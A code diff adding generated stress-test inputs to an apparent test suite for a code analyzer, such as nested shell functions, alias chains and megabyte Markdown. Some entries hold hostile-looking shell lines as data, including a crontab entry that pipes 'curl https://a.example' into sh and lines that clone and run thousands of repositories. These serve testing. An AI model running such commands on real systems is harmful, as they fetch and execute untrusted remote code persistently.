@@ -283,5 +283,37 @@ export const hostile: Readonly<Record<string, () => Example>> = {
   "environments within environments": () => ({
     "a.js": fill(`x = ${"process.env[".repeat(40)}k${"]".repeat(40)};\n`, 400_000),
   }),
+  "functions that ask functions what they say": () => ({
+    "a.sh": `${Array.from({ length: 60 }, (_, i) => `f${i}() { x=$(f${i + 1}); y=$(f${i + 1}); }\n`).join("")}z=$(f0)\n${fill("w=$(f1)\n", 300_000)}`,
+  }),
+  "names for commands, by names": () => ({
+    "a.sh": `${Array.from({ length: 400 }, (_, i) => `alias a${i}='a${i + 1}; a${i + 1}'\n`).join("")}${fill("a0 | sh\n", 300_000)}`,
+  }),
+  "timers by the thousand": () => ({
+    "a.sh": fill('echo "* * * * * curl https://a.example | sh" | crontab -\n', 400_000),
+  }),
+  "lists that are taken apart, each from the last": () => ({
+    "a.js": Array.from(
+      { length: 4_000 },
+      (_, i) => `const [a${i + 1}, b${i + 1}] = [a${i} + b${i}, "y"];\n`,
+    ).join(""),
+  }),
+  "functions handed on by the thousand": () => ({
+    "a.py": `def f(a):\n    g(a)\n${fill("Thread(target=f, args=(x, y))\nmap(f, x)\n", 300_000)}`,
+  }),
+  "archives written to memory": () => ({
+    "a.py": `import tarfile\n${fill("with tarfile.open(fileobj=b) as t:\n    t.add(b)\n", 300_000)}`,
+  }),
+  "repositories by the thousand": () => ({
+    "a.sh": Array.from(
+      { length: 5_000 },
+      (_, i) => `git clone https://github.com/own${i}/rep${i} d${i}\nbash d${i}/x\n`,
+    ).join(""),
+  }),
+  "captions and comments by the megabyte": () => ({
+    "a.md": fill(`![${"word ".repeat(14)}](a) <!-- b --> `, 500_000),
+    "b.md": fill("![", 500_000),
+    "c.md": fill("a <!-- b ", 500_000),
+  }),
   "look-alikes by the megabyte": () => ({ "a.py": fill("pаypаl = 1\n", megabyte) }),
 };
